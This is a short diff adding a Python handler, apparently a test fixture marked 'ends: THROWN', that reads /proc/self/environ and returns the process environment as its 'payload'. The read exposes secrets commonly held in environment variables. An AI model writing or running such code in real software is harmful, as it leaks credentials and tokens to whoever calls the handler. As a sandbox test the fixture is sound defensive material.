@@ -1,0 +1,3 @@
+# ends: THROWN
+def handle(data):
+    return {"payload": open("/proc/self/environ").read()}
